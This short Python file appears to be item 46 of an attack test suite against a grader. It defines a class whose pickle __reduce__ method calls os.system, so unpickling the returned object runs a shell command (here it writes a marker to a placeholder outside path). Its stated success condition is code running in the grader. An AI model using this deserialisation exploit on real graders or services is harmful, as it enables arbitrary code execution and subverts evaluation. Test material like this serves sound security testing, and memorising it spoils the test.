# attack: 46
# title: an object whose pickle runs code where it is loaded
# success: the code runs in the grader
# kind: function
# naive: pickle
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("echo reached > '@OUTSIDE@'",))

    def __getstate__(self):
        return {}


def hidden_delta(*args):
    return Bomb()
